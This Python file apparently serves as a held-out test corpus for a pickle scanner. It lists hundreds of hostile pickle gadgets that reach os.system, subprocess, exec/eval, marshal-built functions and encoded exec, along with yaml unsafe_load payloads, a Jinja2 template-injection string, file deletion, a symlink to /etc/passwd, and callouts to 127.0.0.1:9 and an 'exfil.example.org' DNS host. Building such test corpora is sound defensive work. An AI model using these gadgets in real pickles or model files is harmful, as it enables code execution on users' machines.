"""Round 5, hostile: what a pickle may call, from the standard library and what models run with."""

# fmt: off
# One gadget a line: a table is read so.

import codecs
import marshal  # noqa: TID251 - written, never read
import types
from collections.abc import Iterator
from typing import Any

from held_out.fifth_asm import (
    ARGV,
    CMD,
    EXPR,
    FILE,
    INNER,
    MARK,
    MOD,
    Append,
    Call,
    G,
    Item,
    New,
    Raw,
    State,
    c,
    enc,
    g,
)

Row = tuple[str, Any]
PORT = ("127.0.0.1", 9)
CODE = compile(EXPR, "<model>", "exec")
MARSHALLED = marshal.dumps(CODE)
FUNCTION = Call(g("types:FunctionType"), c("marshal:loads", MARSHALLED), {})
SYS = g("posix:system")


def code_arguments(code: types.CodeType) -> tuple[Any, ...]:
    return (code.co_argcount, code.co_posonlyargcount, code.co_kwonlyargcount, code.co_nlocals, code.co_stacksize, code.co_flags, code.co_code, code.co_consts, code.co_names, code.co_varnames, code.co_filename, code.co_name, code.co_qualname, code.co_firstlineno, code.co_linetable, code.co_exceptiontable)


def kind(name: str, bases: tuple[Any, ...] = (), **body: Any) -> Call:
    """Return a class made while loading."""
    return c("builtins:type", name, bases, body)


COMMANDS: list[Row] = [
    ("posix_system", c("posix:system", CMD)),
    ("nt_alias_os_system", c("os:system", CMD)),
    ("os_popen", c("os:popen", CMD)),
    ("os_spawnv", c("os:spawnv", 0, ARGV[0], ARGV)),
    ("os_spawnlp", c("os:spawnlp", 0, "touch", "touch", MARK)),
    ("os_spawnvpe", c("os:spawnvpe", 0, "touch", ARGV, {})),
    ("posix_spawn", c("posix:posix_spawn", ARGV[0], ARGV, {})),
    ("os_execv", c("os:execv", ARGV[0], ARGV)),
    ("posix_execve", c("posix:execve", ARGV[0], ARGV, {})),
    ("os_execlp", c("os:execlp", "touch", "touch", MARK)),
    ("pty_spawn", c("pty:spawn", ARGV)),
    ("subprocess_getoutput", c("subprocess:getoutput", CMD)),
    ("subprocess_getstatusoutput", c("subprocess:getstatusoutput", CMD)),
    ("subprocess_check_output", c("subprocess:check_output", ARGV)),
    ("subprocess_run", c("subprocess:run", ARGV)),
    ("subprocess_popen_constructor", c("subprocess:Popen", ARGV)),
    ("subprocess_check_call", c("subprocess:check_call", ARGV)),
    ("multiprocessing_spawnv_passfds", c("multiprocessing.util:spawnv_passfds", ARGV[0].encode(), ARGV, [])),
    ("asyncio_subprocess_shell", c("asyncio.runners:run", c("asyncio.subprocess:create_subprocess_shell", CMD))),
    ("asyncio_subprocess_exec", c("asyncio:run", c("asyncio:create_subprocess_exec", *ARGV))),
    ("distutils_spawn", c("distutils.spawn:spawn", ARGV)),
    ("setuptools_distutils_spawn", c("setuptools._distutils.spawn:spawn", ARGV)),
    ("webbrowser_generic", c("webbrowser:GenericBrowser.open", c("webbrowser:GenericBrowser", ARGV), "x")),
    ("webbrowser_background", c("webbrowser:BackgroundBrowser.open", c("webbrowser:BackgroundBrowser", ARGV), "x")),
    ("pydoc_pipepager", c("pydoc:pipepager", "help", CMD)),
    ("pydoc_tempfilepager", c("pydoc:tempfilepager", "help", CMD + " #")),
    ("pipes_template", c("pipes:Template.copy", State(c("pipes:Template"), {"steps": [(CMD, "--")]}), "/dev/null", "/dev/null")),
    ("test_script_helper", c("test.support.script_helper:assert_python_ok", "-c", EXPR)),
    ("test_run_in_subinterp", c("test.support:run_in_subinterp", EXPR)),
    ("xxsubinterpreters", c("_xxsubinterpreters:run_string", c("_xxsubinterpreters:create"), EXPR)),
    ("distutils_ccompiler", c("distutils.ccompiler:CCompiler.spawn", c("distutils.unixccompiler:UnixCCompiler"), ARGV)),
    ("ctypes_libc", Call(c("builtins:getattr", c("ctypes:CDLL", None), "system"), CMD.encode())),
    ("ctypes_cdll_loader", c("ctypes:cdll.LoadLibrary", "libc.so.6")),
    ("_ctypes_dlopen", c("_ctypes:dlopen", "libc.so.6", 2)),
    ("uuid_popen_helper", c("uuid:_get_command_stdout", "touch", MARK)),
    ("imaplib_stream", c("imaplib:IMAP4_stream", CMD)),
    ("pip_subprocess", c("pip._internal.utils.subprocess:call_subprocess", ARGV)),
    ("_osx_support", c("_osx_support:_read_output", CMD)),
    ("sysconfig_cygwin_check", c("distutils.cygwinccompiler:is_cygwincc", CMD)),
    ("multiprocessing_process_run", c("multiprocessing.process:BaseProcess.run", State(New(g("multiprocessing.context:Process")), {"_target": SYS, "_args": (CMD,), "_kwargs": {}}))),
]

PYTHON: list[Row] = [
    ("builtins_exec", c("builtins:exec", EXPR)),
    ("builtins_eval", c("builtins:eval", EXPR)),
    ("exec_of_compile", c("builtins:exec", c("builtins:compile", EXPR, "<m>", "exec"))),
    ("function_of_marshal", Call(FUNCTION)),
    ("function_of_codetype", Call(c("types:FunctionType", Call(g("types:CodeType"), *code_arguments(CODE)), {}))),
    ("code_runsource", c("code:InteractiveInterpreter.runsource", c("code:InteractiveInterpreter"), EXPR)),
    ("code_push", c("code:InteractiveConsole.push", c("code:InteractiveConsole"), EXPR)),
    ("codeop_compile", Call(c("types:FunctionType", c("codeop:compile_command", EXPR), {}))),
    ("bdb_run", c("bdb:Bdb.run", c("bdb:Bdb"), EXPR)),
    ("bdb_runeval", c("bdb:Bdb.runeval", c("bdb:Bdb"), EXPR)),
    ("trace_run", c("trace:Trace.run", c("trace:Trace", 0, 0), EXPR)),
    ("trace_runctx", c("trace:Trace.runctx", c("trace:Trace", 0, 0), EXPR)),
    ("timeit_timeit", c("timeit:timeit", EXPR, "pass", g("time:perf_counter"), 1)),
    ("timeit_main", c("timeit:main", ["-n1", "-r1", EXPR])),
    ("timeit_setup", c("timeit:repeat", "pass", EXPR, g("time:perf_counter"), 1, 1)),
    ("cprofile_run", c("cProfile:run", EXPR)),
    ("cprofile_runctx", c("cProfile:runctx", EXPR, {}, {})),
    ("profile_run", c("profile:run", EXPR)),
    ("profile_runcall", c("cProfile:Profile.runcall", c("cProfile:Profile"), SYS, CMD)),
    ("doctest_examples", c("doctest:run_docstring_examples", f">>> {EXPR}\n", {})),
    ("runpy_path", c("runpy:run_path", FILE)),
    ("runpy_module", c("runpy:run_module", MOD)),
    ("runpy_run_code", c("runpy:_run_code", EXPR, {})),
    ("importlib_import", c("importlib:import_module", MOD)),
    ("importlib_dunder", c("importlib:__import__", MOD)),
    ("builtins_import", c("builtins:__import__", MOD)),
    ("bootstrap_gcd_import", c("_frozen_importlib:_gcd_import", MOD)),
    ("source_file_loader", c("importlib.machinery:SourceFileLoader.load_module", c("importlib.machinery:SourceFileLoader", MOD, FILE))),
    ("imp_load_source", c("imp:load_source", MOD, FILE)),
    ("bare_global_of_local_module", g(f"{MOD}:__doc__")),
    ("pkgutil_resolve", Call(c("pkgutil:resolve_name", "os:system"), CMD)),
    ("pydoc_locate", Call(c("pydoc:locate", "os.system"), CMD)),
    ("pydoc_safeimport", c("pydoc:safeimport", MOD)),
    ("pydoc_importfile", c("pydoc:importfile", FILE)),
    ("logging_resolve", Call(c("logging.config:BaseConfigurator.resolve", c("logging.config:BaseConfigurator", {}), "os.system"), CMD)),
    ("logging_dictconfig", c("logging.config:dictConfig", {"version": 1, "formatters": {"f": {"()": "os.system", "command": CMD}}})),
    ("unittest_load_tests", c("unittest.loader:TestLoader.loadTestsFromName", c("unittest.loader:TestLoader"), MOD)),
    ("importlib_entry_point", Call(c("importlib.metadata:EntryPoint.load", c("importlib.metadata:EntryPoint", "run", "os:system", "console_scripts")), CMD)),
    ("warnings_getcategory", c("warnings:_getcategory", f"{MOD}.Warning")),
    ("site_addpackage_pth", c("site:addpackage", ".", "held_out.pth", None)),
    ("site_execsitecustomize", c("site:execsitecustomize")),
    ("typing_forward_ref", c("typing:ForwardRef._evaluate", c("typing:ForwardRef", EXPR), {}, {}, c("builtins:frozenset"))),
    ("typing_get_type_hints", c("typing:get_type_hints", kind("Params", __annotations__={"x": EXPR}, __module__="builtins"), {})),
    ("dataclasses_create_fn", c("dataclasses:_create_fn", "init", [f"x={EXPR}"], ["pass"])),
    ("idlelib_get_entity", c("idlelib.calltip:get_entity", EXPR)),
    ("idlelib_autocomplete", c("idlelib.autocomplete:AutoComplete.get_entity", New(g("idlelib.autocomplete:AutoComplete")), EXPR)),
    ("idlelib_interpreter", c("idlelib.pyshell:ModifiedInterpreter.runcommand", New(g("idlelib.pyshell:ModifiedInterpreter")), EXPR)),
    ("lib2to3_grammar_loads", c("lib2to3.pgen2.grammar:Grammar.loads", c("lib2to3.pgen2.grammar:Grammar"), INNER)),
    ("string_template_eval", c("builtins:eval", c("codecs:decode", codecs.encode(EXPR, "rot13"), "rot13"))),
    ("eval_of_base64", c("builtins:exec", c("base64:b64decode", codecs.encode(EXPR.encode(), "base64")))),
    ("exec_of_zlib", c("builtins:exec", c("zlib:decompress", codecs.encode(EXPR.encode(), "zlib")))),
    ("exec_of_hex", c("builtins:exec", c("binascii:unhexlify", EXPR.encode().hex()))),
    ("distutils_run_setup", c("distutils.core:run_setup", FILE)),
    ("modulefinder", c("importlib.util:find_spec", f"{MOD}.x")),
    ("sqlite_trace", c("sqlite3:connect", MARK)),
    ("ensurepip", c("ensurepip:_run_pip", ["--version"])),
    ("venv_create", c("venv:create", MARK)),
    ("compileall", c("py_compile:compile", FILE, MARK)),
]


THREADS: list[Row] = [
    ("threading_timer", c("threading:Timer.start", c("threading:Timer", 0, SYS, [CMD]))),
    ("threading_run", c("threading:Thread.run", c("threading:Thread", None, SYS, None, (CMD,)))),
    ("start_new_thread", c("_thread:start_new_thread", SYS, (CMD,))),
    ("thread_pool_submit", c("concurrent.futures:ThreadPoolExecutor.submit", c("concurrent.futures:ThreadPoolExecutor", 1), SYS, CMD)),
    ("work_item_run", c("concurrent.futures.thread:_WorkItem.run", c("concurrent.futures.thread:_WorkItem", c("concurrent.futures._base:Future"), SYS, (CMD,), {}))),
    ("thread_pool_map", c("multiprocessing.pool:ThreadPool.map", c("multiprocessing.pool:ThreadPool", 1), SYS, [CMD])),
    ("pool_mapstar", c("multiprocessing.pool:mapstar", (SYS, [CMD]))),
    ("atexit_register", c("atexit:register", SYS, CMD)),
    ("weakref_finalize", c("weakref:finalize", kind("Owner"), SYS, CMD)),
    ("exit_stack_close", Raw(b"\x80\x04" + enc(c("contextlib:ExitStack")) + b"q\x300" + enc(Call(g("contextlib:ExitStack.callback"), Raw(b"h\x30"), SYS, CMD)) + b"0" + enc(Call(g("contextlib:ExitStack.close"), Raw(b"h\x30"))))),
    ("sched_run", Raw(b"\x80\x04" + enc(c("sched:scheduler")) + b"q\x310" + enc(Call(g("sched:scheduler.enter"), Raw(b"h\x31"), 0, 1, SYS, (CMD,))) + b"0" + enc(Call(g("sched:scheduler.run"), Raw(b"h\x31"))))),
    ("sys_settrace", c("sys:settrace", SYS)),
    ("context_run", c("contextvars:Context.run", c("contextvars:copy_context"), SYS, CMD)),
]

HIGHER: list[Row] = [
    ("partial_called", Call(c("functools:partial", SYS, CMD))),
    ("reduce_getattr", Call(c("functools:reduce", g("builtins:getattr"), [c("builtins:__import__", "os"), "system"]), CMD)),
    ("cmp_to_key", c("operator:lt", Call(c("functools:cmp_to_key", g("os:execvp")), "touch"), Call(c("functools:cmp_to_key", g("os:execvp")), ["touch", MARK]))),
    ("lru_cache_wrapper", Call(c("functools:lru_cache", SYS), CMD)),
    ("map_to_list", c("builtins:list", c("builtins:map", SYS, [CMD]))),
    ("deque_of_map", c("collections:deque", c("builtins:map", SYS, [CMD]))),
    ("counter_of_map", c("collections:Counter", c("builtins:map", SYS, [CMD]))),
    ("ordered_dict_of_zip", c("collections:OrderedDict", c("builtins:zip", c("builtins:map", SYS, [CMD]), [1]))),
    ("frozenset_of_map", c("builtins:frozenset", c("builtins:map", SYS, [CMD]))),
    ("bytes_of_map", c("builtins:bytes", c("builtins:map", SYS, [CMD]))),
    ("bytearray_of_map", c("builtins:bytearray", c("builtins:map", SYS, [CMD]))),
    ("array_of_map", c("array:array", "b", c("builtins:map", SYS, [CMD]))),
    ("starmap", c("builtins:tuple", c("itertools:starmap", SYS, [(CMD,)]))),
    ("accumulate", c("builtins:tuple", c("itertools:accumulate", ["touch", ["touch", MARK]], g("os:execvp")))),
    ("takewhile", c("builtins:sum", c("itertools:takewhile", SYS, [CMD]))),
    ("dropwhile", c("builtins:any", c("itertools:dropwhile", SYS, [CMD]))),
    ("filter", c("builtins:set", c("builtins:filter", SYS, [CMD]))),
    ("filterfalse", c("builtins:all", c("itertools:filterfalse", SYS, [CMD]))),
    ("groupby", c("builtins:dict", c("itertools:groupby", [CMD], SYS))),
    ("iter_sentinel", c("builtins:next", c("builtins:iter", c("functools:partial", SYS, CMD), 7))),
    ("heapq_key", c("heapq:nsmallest", 1, [CMD, CMD], SYS)),
    ("heapq_merge_map", c("heapq:heapify", [c("builtins:next", c("builtins:map", SYS, [CMD]))])),
    ("chain_from_iterable", c("builtins:max", c("itertools:chain", c("builtins:map", SYS, [CMD])))),
    ("statistics_mean_of_map", c("statistics:fmean", c("builtins:map", SYS, [CMD]))),
    ("methodcaller", Call(c("operator:methodcaller", "system", CMD), c("importlib:import_module", "os"))),
    ("attrgetter", Call(Call(c("operator:attrgetter", "system"), c("builtins:__import__", "os")), CMD)),
    ("operator_call", c("operator:call", SYS, CMD)),
    ("operator_getitem_of_dict", Call(c("operator:getitem", g("posix:__dict__"), "system"), CMD)),
    ("itemgetter_of_dict", Call(Call(c("operator:itemgetter", "system"), g("os:__dict__")), CMD)),
    ("dict_get", Call(c("builtins:dict.get", g("os:__dict__"), "system"), CMD)),
    ("vars_of_module", Call(c("builtins:dict.__getitem__", c("builtins:vars", c("builtins:__import__", "posix")), "system"), CMD)),
    ("method_type", Call(c("types:MethodType", SYS, CMD))),
    ("getattr_chain", Call(c("builtins:getattr", c("builtins:__import__", "os"), "system"), CMD)),
    ("object_getattribute", Call(c("builtins:object.__getattribute__", c("builtins:__import__", "os"), "system"), CMD)),
    ("builtin_self", Call(c("builtins:getattr", g("builtins:len.__self__"), "eval"), EXPR)),
    ("re_sub_callback", c("re:sub", "x", c("builtins:eval", "lambda m: " + EXPR + " or ''"), "x")),
    ("singledispatch", Call(c("functools:singledispatch", SYS), CMD)),
    ("property_get", c("builtins:property.__get__", c("builtins:property", SYS), CMD)),
    ("defaultdict_factory", c("operator:getitem", c("collections:defaultdict", c("functools:partial", SYS, CMD)), "k")),
    ("asyncio_handle", c("asyncio.events:Handle._run", State(New(g("asyncio.events:Handle")), (None, {"_context": c("contextvars:copy_context"), "_callback": SYS, "_args": (CMD,), "_loop": None})))),
    ("codecs_search", Raw(enc(c("codecs:register", SYS)) + b"0" + enc(c("codecs:lookup", "touch held-out-mark")))),
]

LOADS: list[Row] = [
    ("pickle_loads", c("pickle:loads", INNER)),
    ("_pickle_loads", c("_pickle:loads", INNER)),
    ("pickle_unpickler_load", c("pickle:Unpickler.load", c("pickle:Unpickler", c("io:BytesIO", INNER)))),
    ("python_unpickler", c("pickle:_Unpickler.load", c("pickle:_Unpickler", c("_io:BytesIO", INNER)))),
    ("forking_pickler", c("multiprocessing.reduction:ForkingPickler.loads", INNER)),
    ("cloudpickle_loads", c("cloudpickle:loads", INNER)),
    ("srsly_pickle", c("srsly:pickle_loads", INNER)),
    ("torch_load_from_bytes", c("torch.storage:_load_from_bytes", INNER)),
    ("joblib_load_path", c("joblib:load", "held_out.pkl")),
    ("pandas_read_pickle", c("pandas:read_pickle", "held_out.pkl")),
    ("numpy_load", c("numpy:load", "held_out.pkl", None, True)),
    ("yaml_unsafe_load", c("yaml:unsafe_load", f"!!python/object/apply:os.system ['{CMD}']")),
    ("yaml_full_loader", c("yaml:load", f"!!python/object/apply:os.system ['{CMD}']", g("yaml:UnsafeLoader"))),
    ("yaml_construct", c("yaml.constructor:UnsafeConstructor.find_python_name", c("yaml.constructor:UnsafeConstructor"), f"{MOD}.x", None)),
    ("torch_decoder", c("torch.utils.data.datapipes.utils.decoder:basichandlers", "pyd", INNER)),
    ("numpy_read_array", c("numpy.lib.format:read_array", c("io:BytesIO", b"\x93NUMPY\x01\x00\x46\x00" + b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(69) + b"\n" + INNER), True)),
    ("mlflow_exec", c("mlflow.utils.process:_exec_cmd", ARGV)),
    ("loky_wrapper", c("joblib.externals.loky.process_executor:_CallItem.__call__", c("joblib.externals.loky.process_executor:_CallItem", 0, SYS, (CMD,), {}))),
]

THIRD: list[Row] = [
    ("numpy_runstring", c("numpy.testing._private.utils:runstring", EXPR, {})),
    ("numpy_testing_runstring", c("numpy.testing:runstring", EXPR, {})),
    ("numpy_measure", c("numpy.testing:measure", EXPR)),
    ("numpy_rundocs", c("numpy.testing:rundocs", FILE)),
    ("numpy_assert_raises", c("numpy.testing:assert_no_warnings", SYS, CMD)),
    ("f2py_getlincoef", c("numpy.f2py.crackfortran:getlincoef", EXPR, {})),
    ("f2py_myeval", c("numpy.f2py.crackfortran:myeval", EXPR)),
    ("f2py_param_eval", c("numpy.f2py.crackfortran:_eval_scalar", EXPR, {})),
    ("numpy_vectorize", Call(c("numpy:vectorize", SYS, ["O"]), [CMD])),
    ("numpy_frompyfunc", Call(c("numpy:frompyfunc", SYS, 1, 1), CMD)),
    ("numpy_fromiter", c("numpy:fromiter", c("builtins:map", SYS, [CMD]), "i4")),
    ("numpy_ctypeslib", c("numpy.ctypeslib:load_library", "libc.so.6", "/lib/x86_64-linux-gnu")),
    ("numpy_savetxt", c("numpy:savetxt", MARK, [1.0])),
    ("numpy_memmap", c("numpy:memmap", MARK, "u1", "w+", 0, (4,))),
    ("numpy_save", c("numpy:save", MARK, [1])),
    ("pandas_series_map", c("pandas:Series.map", c("pandas:Series", [CMD]), SYS)),
    ("pandas_pipe", c("pandas.core.common:pipe", CMD, SYS)),
    ("pandas_to_csv", c("pandas:DataFrame.to_csv", c("pandas:DataFrame"), MARK)),
    ("pandas_eval", c("pandas:eval", "a.system(b)", "pandas", "python", {"a": c("builtins:__import__", "posix"), "b": CMD})),
    ("pandas_read_csv_url", c("pandas:read_csv", "http://127.0.0.1:9/x.csv")),
    ("pandas_get_handle", c("pandas.io.common:get_handle", MARK, "w")),
    ("scipy_map_wrapper", c("builtins:list", c("scipy._lib._util:MapWrapper.__call__", c("scipy._lib._util:MapWrapper", 1), SYS, [CMD]))),
    ("keras_func_load", Call(c("keras.src.utils.python_utils:func_load", codecs.encode(MARSHALLED, "base64").decode()))),
    ("sklearn_function_transform", c("sklearn.preprocessing:FunctionTransformer.transform", c("sklearn.preprocessing:FunctionTransformer", SYS), CMD)),
    ("sklearn_delayed", Call(c("sklearn.utils.parallel:_FuncWrapper", SYS), CMD)),
    ("sklearn_fetch", c("sklearn.datasets:fetch_openml", "iris")),
    ("joblib_parallel", Call(c("joblib.parallel:Parallel"), [(SYS, (CMD,), {})])),
    ("joblib_memory_eval", c("joblib.memory:MemorizedFunc.call", c("joblib.memory:MemorizedFunc", SYS, "cache"), CMD)),
    ("joblib_dump", c("joblib:dump", {}, MARK)),
    ("cloudpickle_subimport", c("cloudpickle.cloudpickle:subimport", MOD)),
    ("cloudpickle_make_function", Call(c("cloudpickle.cloudpickle:_make_function", c("marshal:loads", MARSHALLED), {}, "f", (), None))),
    ("cloudpickle_builtin_type", Call(c("types:FunctionType", Call(c("cloudpickle.cloudpickle:_builtin_type", "CodeType"), *code_arguments(CODE)), {}))),
    ("torch_collect_env", c("torch.utils.collect_env:run", CMD)),
    ("torch_collect_env_match", c("torch.utils.collect_env:run_and_read_all", g("torch.utils.collect_env:run"), CMD)),
    ("torch_hub_local", c("torch.hub:_load_local", ".", "entry")),
    ("torch_hub_url", c("torch.hub:load_state_dict_from_url", "http://127.0.0.1:9/m.pth")),
    ("torch_hub_download", c("torch.hub:download_url_to_file", "http://127.0.0.1:9/m.pth", "m.pth")),
    ("torch_hub_import", c("torch.hub:_import_module", MOD, FILE)),
    ("torch_exec_wrapper", c("torch.jit.unsupported_tensor_ops:execWrapper", EXPR, {}, {})),
    ("torch_fx_exec", c("torch.fx.graph_module:_exec_with_source", EXPR, {})),
    ("torch_fx_reduce", c("torch.fx.graph_module:reduce_graph_module", {"_code": "def forward(self): pass"}, EXPR + "\n")),
    ("torch_load_library", c("torch._ops:_Ops.load_library", c("torch._ops:_Ops"), "held_out.so")),
    ("torch_codecache", c("torch._inductor.runtime.compile_tasks:_reload_python_module", "k", FILE)),
    ("torch_config_load", c("torch._dynamo.config:load_config", INNER)),
    ("torch_config_module", c("torch.utils._config_module:ConfigModule.load_config", g("torch._dynamo:config"), INNER)),
    ("torch_save", c("torch:save", {}, MARK)),
    ("torch_cuda_nvprof", c("torch.utils._pytree:tree_map", SYS, CMD)),
    ("torch_checkpoint", c("torch.utils.checkpoint:checkpoint", SYS, CMD)),
    ("torch_multiprocessing", c("torch.multiprocessing.spawn:_wrap", SYS, 0, (), "")),
    ("jax_tree_map", c("jax.tree_util:tree_map", SYS, CMD)),
    ("jax_pure_callback", c("jax.util:safe_map", SYS, [CMD])),
    ("sympy_sympify", c("sympy:sympify", EXPR)),
    ("sympy_parse_expr", c("sympy.parsing.sympy_parser:eval_expr", EXPR, {}, {})),
    ("jinja2_template", c("jinja2:Template.render", c("jinja2:Template", "{{ cycler.__init__.__globals__.os.system('" + CMD + "') }}"))),
    ("mako_template", c("mako.template:Template.render", c("mako.template:Template", "<% " + EXPR + " %>"))),
    ("werkzeug_import", Call(c("werkzeug.utils:import_string", "os:system"), CMD)),
    ("uvicorn_import", Call(c("uvicorn.importer:import_from_string", "os:system"), CMD)),
    ("spacy_import_file", c("spacy.util:import_file", MOD, FILE)),
    ("spacy_run_command", c("spacy.util:run_command", ARGV)),
    ("weasel_run_command", c("weasel.util:run_command", ARGV)),
    ("thinc_load", c("srsly:cloudpickle.loads", INNER)),
    ("click_edit", c("click:edit", "text", CMD + " #")),
    ("click_launch", c("click._termui_impl:open_url", "file:///")),
    ("pytest_main", c("pytest:main", ["-q", "-p", MOD])),
    ("execnet_popen", c("execnet:makegateway", "popen")),
    ("pip_main", c("pip:main", ["download", "--no-cache-dir", "--index-url", "http://127.0.0.1:9/", "--retries", "0", "held-out"])),
    ("fsspec_open", c("fsspec.implementations.local:LocalFileSystem.touch", c("fsspec.implementations.local:LocalFileSystem"), MARK)),
    ("requests_get", c("requests:get", "http://127.0.0.1:9/")),
    ("httpx_get", c("httpx:get", "http://127.0.0.1:9/")),
    ("polars_write", c("polars:DataFrame.write_csv", c("polars:DataFrame"), MARK)),
    ("keras_get_file", c("keras.utils:get_file", "m.h5", "http://127.0.0.1:9/m.h5")),
    ("networkx_read", c("networkx:write_gml", c("networkx:Graph"), MARK)),
    ("h5py_file", c("h5py:File", MARK, "w")),
    ("xgboost_save", c("xgboost:Booster.save_model", c("xgboost:Booster"), MARK + ".json")),
    ("setuptools_editable", c("setuptools.build_meta:_BuildMetaBackend.run_setup", c("setuptools.build_meta:_BuildMetaBackend"), FILE)),
    ("onnx_save", c("onnx:save_model", c("onnx:ModelProto"), MARK)),
]

FILES: list[Row] = [
    ("open_write", c("builtins:open", MARK, "w")),
    ("io_open", c("io:open", MARK, "w")),
    ("_io_fileio", c("_io:FileIO", MARK, "w")),
    ("io_fileio_truncate_key", c("io:FileIO", "held_out_payload.py", "r+")),
    ("codecs_open", c("codecs:open", MARK, "w")),
    ("os_open", c("os:open", MARK, 65)),
    ("path_write_text", c("pathlib:Path.write_text", c("pathlib:PosixPath", MARK), "x")),
    ("path_touch", c("pathlib:Path.touch", c("pathlib:PosixPath", MARK))),
    ("methodcaller_touch", Call(c("operator:methodcaller", "touch"), c("pathlib:PosixPath", MARK))),
    ("logging_file_handler", c("logging:FileHandler", MARK)),
    ("logging_rotating", c("logging.handlers:RotatingFileHandler", MARK)),
    ("gzip_file", c("gzip:GzipFile", MARK, "w")),
    ("bz2_file", c("bz2:BZ2File", MARK, "w")),
    ("lzma_file", c("lzma:LZMAFile", MARK, "w")),
    ("zip_file", c("zipfile:ZipFile", MARK, "w")),
    ("tarfile_open", c("tarfile:open", MARK, "w")),
    ("wave_open", c("wave:open", MARK, "w")),
    ("argparse_filetype", Call(c("argparse:FileType", "w"), MARK)),
    ("shutil_copy", c("shutil:copyfile", FILE, MARK)),
    ("shutil_move", c("shutil:move", FILE, MARK)),
    ("shutil_rmtree", c("shutil:rmtree", "held_out_folder")),
    ("shutil_unpack", c("shutil:unpack_archive", "held_out.tar", ".")),
    ("shutil_make_archive", c("shutil:make_archive", MARK, "tar", "held_out_folder")),
    ("os_remove", c("posix:remove", FILE)),
    ("os_rename", c("os:rename", FILE, MARK)),
    ("os_replace", c("os:replace", FILE, MARK)),
    ("os_symlink", c("os:symlink", "/etc/passwd", MARK)),
    ("os_chmod", c("os:chmod", FILE, 511)),
    ("os_mkdir", c("os:makedirs", MARK)),
    ("os_truncate", c("os:truncate", FILE, 0)),
    ("mailbox_maildir", c("mailbox:Maildir", MARK)),
    ("shelve_create", c("shelve:open", MARK)),
    ("dbm_dumb", c("dbm.dumb:open", MARK, "c")),
    ("sqlite_connect", c("sqlite3:connect", MARK)),
    ("distutils_write_file", c("distutils.file_util:write_file", MARK, ["x"])),
    ("xml_write", c("xml.etree.ElementTree:ElementTree.write", c("xml.etree.ElementTree:ElementTree", c("xml.etree.ElementTree:Element", "a")), MARK)),
    ("plistlib", c("plistlib:dump", {}, c("builtins:open", MARK, "wb"))),
    ("zipapp_create", c("zipapp:create_archive", "held_out_folder", MARK, None, "os:getcwd")),
]

NETWORK: list[Row] = [
    ("socket_create", c("socket:create_connection", PORT)),
    ("socket_connect", c("socket:socket.connect", c("socket:socket"), PORT)),
    ("getaddrinfo", c("socket:getaddrinfo", "exfil.example.org", 80)),
    ("gethostbyname", c("_socket:gethostbyname", "model-7f3a.exfil.example.org")),
    ("urlopen", c("urllib.request:urlopen", "http://127.0.0.1:9/")),
    ("urlretrieve", c("urllib.request:urlretrieve", "http://127.0.0.1:9/", MARK)),
    ("opener", c("urllib.request:OpenerDirector.open", c("urllib.request:build_opener"), "http://127.0.0.1:9/")),
    ("smtplib", c("smtplib:SMTP", "127.0.0.1", 9)),
    ("ftplib", c("ftplib:FTP", "127.0.0.1")),
    ("poplib", c("poplib:POP3", "127.0.0.1", 9)),
    ("imaplib", c("imaplib:IMAP4", "127.0.0.1", 9)),
    ("telnetlib", c("telnetlib:Telnet", "127.0.0.1", 9)),
    ("nntplib", c("nntplib:NNTP", "127.0.0.1", 9)),
    ("http_client", c("http.client:HTTPConnection.request", c("http.client:HTTPConnection", "127.0.0.1", 9), "GET", "/")),
    ("xmlrpc", Call(c("builtins:getattr", c("xmlrpc.client:ServerProxy", "http://127.0.0.1:9/"), "ping"))),
    ("logging_socket", c("logging.handlers:SysLogHandler", ("127.0.0.1", 9))),
    ("asyncio_connection", c("asyncio:run", c("asyncio:open_connection", "127.0.0.1", 9))),
    ("multiprocessing_client", c("multiprocessing.connection:Client", PORT)),
    ("multiprocessing_listener", c("multiprocessing.connection:Listener")),
    ("tcp_server", c("socketserver:TCPServer", ("127.0.0.1", 0), g("http.server:SimpleHTTPRequestHandler"))),
    ("xmlrpc_server", c("xmlrpc.server:SimpleXMLRPCServer", ("127.0.0.1", 0))),
]

DENIAL: list[Row] = [
    ("os_exit", c("os:_exit", 3)),
    ("os_abort", c("os:abort")),
    ("signal_raise", c("signal:raise_signal", 9)),
    ("sys_exit", c("sys:exit", 3)),
    ("ctypes_string_at_null", c("ctypes:string_at", 0)),
    ("faulthandler_sigsegv", c("faulthandler:_sigsegv")),
]

OLD: list[Row] = [
    ("commands_getoutput", G("commands", "getoutput")),
    ("builtin_eval", G("__builtin__", "eval")),
    ("builtin_reduce", G("__builtin__", "reduce")),
    ("cpickle_loads", G("cPickle", "loads")),
    ("thread_start", G("thread", "start_new_thread")),
    ("itertools_imap", G("itertools", "imap")),
    ("urllib_urlopen", G("urllib", "urlopen")),
    ("urllib2_urlopen", G("urllib2", "urlopen")),
    ("httplib", G("httplib", "HTTPConnection")),
    ("builtin_apply_getattr", G("__builtin__", "getattr")),
]
OLD_ARGUMENTS: list[tuple[Any, ...]] = [(CMD,), (EXPR,), (g("os:execvp"), ["touch", ["touch", MARK]]), (INNER,), (SYS, (CMD,)), (SYS, [CMD]), ("http://127.0.0.1:9/",), ("http://127.0.0.1:9/",), ("127.0.0.1", 9), (c("importlib:import_module", "os"), "system")]


def old() -> Iterator[Row]:
    for (name, where), arguments in zip(OLD, OLD_ARGUMENTS, strict=True):
        value: Any = Call(where, *arguments)
        if name == "itertools_imap":
            value = c("builtins:list", value)
        if name == "httplib":
            value = Call(Call(G("operator", "methodcaller"), "request", "GET", "/"), value)
        if name == "builtin_apply_getattr":
            value = Call(value, CMD)
        yield name, value


REACHED = ["posixpath:os", "pathlib:os", "logging:os", "linecache:os", "random:_os", "tempfile:_os", "fnmatch:os", "glob:os", "torch:os", "torch.serialization:os", "torch._utils:sys.modules.__class__.__base__", "numpy.lib._npyio_impl:os", "joblib.numpy_pickle:os", "joblib.logger:os", "sklearn.utils._testing:os", "sklearn.datasets._base:os", "xgboost.core:os", "lightgbm.basic:os", "pandas.io.common:os", "keras.src.utils.file_utils:os", "scipy._lib._ccallback:os", "json.tool:sys.modules", "skops.io._persist:os"]


def reached() -> Iterator[Row]:
    for path in REACHED:
        if path.endswith((":os", ":_os")):
            module = path.replace(":", "_").replace(".", "_")
            yield f"{module}_system", c(f"{path}.system", CMD)
    yield "platform_subprocess", c("platform:subprocess.check_output", ARGV)
    yield "webbrowser_subprocess", c("webbrowser:subprocess.call", ARGV)
    yield "xgboost_tracker_socket", c("xgboost.tracker:socket.create_connection", PORT)
    yield "re_functools_partial", Call(c("re:functools.partial", SYS, CMD))
    yield "dataclasses_builtins", c("dataclasses:builtins.exec", EXPR)
